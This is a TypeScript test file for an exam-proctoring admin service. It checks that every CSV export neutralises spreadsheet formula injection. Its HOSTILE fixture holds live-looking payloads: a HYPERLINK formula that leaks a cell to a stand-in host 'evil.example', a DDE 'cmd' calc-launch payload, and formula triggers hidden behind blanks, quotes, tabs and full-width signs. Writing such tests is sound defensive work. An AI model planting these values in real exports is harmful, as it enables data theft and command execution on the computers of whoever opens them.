// CSV injection (OWASP): every CSV an admin downloads — each list of the admin service and the mail
// merge — keeps hostile text that a candidate or their device put into the data as text. The values
// go in through the real paths (bulk enrollment for names, code redemption for the device label,
// the central tables for usage and sessions), the exports are parsed back, and every cell of every
// column is checked: none may start a formula, even behind leading spaces or quote marks.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AdminService, LIST_COLUMNS, type ListName } from '../../../src-main/admin/admin-service';
import { parseCsv } from '../../../src-main/admin/csv-read';
import { startCentral, type CentralFixture } from '../../support/central';

let central: CentralFixture;
beforeAll(async () => {
  central = await startCentral();
}, 120_000);
afterAll(async () => {
  await central?.close();
});

// What a hostile candidate or device would send: a trigger first, behind blanks, behind quotes,
// behind a tab, and in full width.
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  email: '=1+1@evil.example',
  label: '  @SUM(A1:A9)',
  model: '"-2+3"',
  title: "\t=cmd|' /C calc'!A0",
  accommodation: '＋extra time',
};

/** Independent of the implementation: would a spreadsheet evaluate this cell? */
function runsAsFormula(cell: string): boolean {
  if (cell.startsWith("'")) return false; // neutralised: shown as text
  return /^[\t\r\n]/.test(cell) || /^[\s"'\u00A0\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);
}

describe('CSV exports', () => {
  it('neutralise formula triggers in every list and column a candidate or device can influence', async () => {
    const admin = new AdminService(central.owner.query);
    const examId = await admin.saveExam({
      title: HOSTILE.title,
      type: 'SKL',
      difficulty: 3,
      keyQuestions: [{ question: '=1+1', time_limit_s: 60 }],
      accommodationProfiles: [{ name: HOSTILE.accommodation, extraTimePercent: 50 }],
    });
    const [enrollment] = await admin.createEnrollments({
      examId,
      candidates: [{ email: HOSTILE.email, name: HOSTILE.name, accommodation: HOSTILE.accommodation }],
    });
    // The device names itself when it redeems the code.
    const redemption = await central.channel.redeem(enrollment!.code, HOSTILE.label);
    await central.owner.query(
      `INSERT INTO vigil.sessions (id, exam_id, candidate_id, status, started_at, risk_score)
       VALUES ($1, $2, $3, 'completed', now(), 12)`,
      [randomUUID(), examId, redemption.candidateId],
    );
    await central.owner.query(
      `INSERT INTO vigil.token_usage (id, user_id, exam_id, model, prompt_tokens, completion_tokens, total_tokens, request_type)
       VALUES ($1, $2, $3, $4, 10, 5, 15, 'evaluation')`,
      [randomUUID(), redemption.candidateId, examId, HOSTILE.model],
    );

    const seen = new Set<string>();
    for (const name of Object.keys(LIST_COLUMNS) as ListName[]) {
      // Retention receipts hold only what the server writes (ids, counts, rules, times): no cell a
      // candidate or device can influence, and this suite purges nothing.
      if (name === 'receipts') continue;
      const [header, ...rows] = parseCsv(await admin.exportCsv(name));
      expect(header).toEqual([...LIST_COLUMNS[name]]);
      expect(rows.length, name).toBeGreaterThan(0);
      for (const row of rows)
        for (const [i, cell] of row.entries()) {
          expect(runsAsFormula(cell), `${name}.${header![i]} = ${JSON.stringify(cell)}`).toBe(false);
          for (const value of Object.values(HOSTILE))
            if (cell === `'${value}` || cell === `'${value.toLowerCase()}`) seen.add(`${name}.${header![i]}`);
        }
    }
    // The hostile values really are in the exports, in each column they can reach.
    expect([...seen].sort()).toEqual(
      [
        'devices.candidate_email',
        'devices.exam_title',
        'devices.label',
        'enrollments.accommodation',
        'enrollments.candidate_email',
        'enrollments.candidate_name',
        'enrollments.exam_title',
        'exams.title',
        'sessions.candidate_email',
        'sessions.candidate_name',
        'sessions.exam_title',
        'usage.exam_title',
        'usage.model',
        'users.display_name',
        'users.email',
      ].sort(),
    );

    const [header, ...merge] = parseCsv(
      AdminService.mailMergeCsv(HOSTILE.title, [{ ...enrollment!, name: HOSTILE.name }]),
    );
    expect(header).toEqual(['email', 'name', 'exam', 'code', 'expires_at']);
    for (const row of merge) for (const cell of row) expect(runsAsFormula(cell), cell).toBe(false);
    expect(merge[0]).toEqual([
      `'${HOSTILE.email}`,
      `'${HOSTILE.name}`,
      `'${HOSTILE.title}`,
      enrollment!.code,
      enrollment!.expiresAt,
    ]);
  });
});
